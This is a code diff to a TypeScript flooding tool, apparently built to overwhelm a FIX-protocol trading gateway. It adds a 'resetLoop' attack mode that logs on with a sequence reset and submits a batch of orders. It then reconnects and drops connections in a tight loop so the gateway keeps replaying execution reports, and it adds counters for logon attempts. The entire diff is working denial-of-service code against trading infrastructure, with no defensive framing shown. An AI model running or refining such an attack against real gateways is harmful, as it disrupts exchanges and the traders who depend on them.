@@ -17,7 +17,9 @@ export type FloodKind =
   | 'testRequests'
   | 'resendRequests'
   | 'ahead'
-  | 'echo';
+  | 'echo'
+  /** Log on with a reset, drop the connection when the first reports are repeated, and again at once. */
+  | 'resetLoop';
 
 export interface AttackPlan {
   readonly port: number;
@@ -33,12 +35,17 @@ export interface AttackFigures {
   readonly messages: number;
   readonly megabytes: number;
   readonly logons: number;
+  /** Logons that were sent. */
+  readonly attempts: number;
   readonly seconds: number;
 }
 
 const SECONDS_MAX = 600;
 const BATCH = 200;
 const AGAIN_MS = 100;
+/** Orders whose reports are repeated in a loop of resets, and how long each connection is kept behind its Logon. */
+const LOOP_ORDERS = 200;
+const LOOP_HELD_MS = 20;
 /** Bytes of ours that the gateway has not read: no more are made. */
 const UNREAD_MAX = 262_144;
 
@@ -50,6 +57,8 @@ class Flood {
   #messages = 0;
   #bytes = 0;
   #logons = 0;
+  #reports = 0;
+  #attempts = 0;
   #loggedOn = false;
   #isOver = false;
   readonly #begun = performance.now();
@@ -68,13 +77,37 @@ class Flood {
     socket.on('error', () => {});
     socket.on('connect', () => {
       if (this.#plan.kind === 'echo') this.#begin(socket);
-      else socket.write(this.#render('35=A', `98=0|108=30|141=Y|554=${this.#plan.password}|`));
+      else {
+        const logon = this.#render('35=A', `98=0|108=30|141=Y|554=${this.#plan.password}|`);
+        this.#bytes += logon.length;
+        this.#attempts++;
+        socket.write(logon);
+      }
     });
     socket.on('data', (chunk: Buffer) => {
+      if (this.#plan.kind === 'resetLoop') {
+        this.#loop(socket, chunk);
+        return;
+      }
       if (this.#loggedOn || !chunk.includes('\u000135=A\u0001')) return;
       this.#begin(socket);
     });
-    socket.on('close', () => setTimeout(() => this.connect(port), AGAIN_MS));
+    const againMs = this.#plan.kind === 'resetLoop' ? 0 : AGAIN_MS;
+    socket.on('close', () => setTimeout(() => this.connect(port), againMs));
+  }
+
+  /** The first connection makes reports; each later one is dropped a moment behind its Logon. */
+  #loop(socket: Socket, chunk: Buffer): void {
+    if (chunk.includes('\u000135=A\u0001')) {
+      this.#logons++;
+      if (this.#logons === 1) for (let i = 0; i < LOOP_ORDERS; i++) socket.write(this.#message());
+      else setTimeout(() => socket.destroy(), LOOP_HELD_MS);
+    } else if (this.#logons > 1) return;
+    this.#reports += chunk.toString('latin1').split('\u000139=C\u0001').length - 1;
+    if (this.#reports < LOOP_ORDERS) return;
+    this.#bytes = 0;
+    console.log('under way');
+    socket.destroy();
   }
 
   #begin(socket: Socket): void {
@@ -106,6 +139,7 @@ class Flood {
     switch (this.#plan.kind) {
       case 'orders':
       case 'echo':
+      case 'resetLoop':
         return this.#render('35=D', order);
       case 'cancels':
         return this.#render('35=F', `11=${id}|41=none-${id}|55=BTCUSDC|54=1|60=${time}|38=1|`);
@@ -155,6 +189,7 @@ class Flood {
       messages: this.#messages,
       megabytes: this.#bytes / 1e6,
       logons: this.#logons,
+      attempts: this.#attempts,
       seconds,
     };
     console.log(JSON.stringify(figures));
